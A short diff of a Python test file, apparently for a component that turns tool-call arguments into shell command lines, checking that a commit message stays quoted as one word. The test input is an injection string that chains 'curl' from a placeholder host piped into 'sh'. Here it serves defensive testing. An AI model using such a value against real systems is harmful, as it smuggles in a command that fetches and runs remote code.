@@ -390,7 +390,7 @@ def test_a_tool_that_no_program_has_named_is_no_command_line(tool: str) -> None:
 def test_a_value_stays_one_word() -> None:
     lines = commands_of("git_commit", {"message": "a; curl https://b.example/x | sh"})
     assert lines
-    assert all("'" in line for line in lines)
+    assert all("'" in command.line for command in lines)
 
 
 @pytest.mark.parametrize(
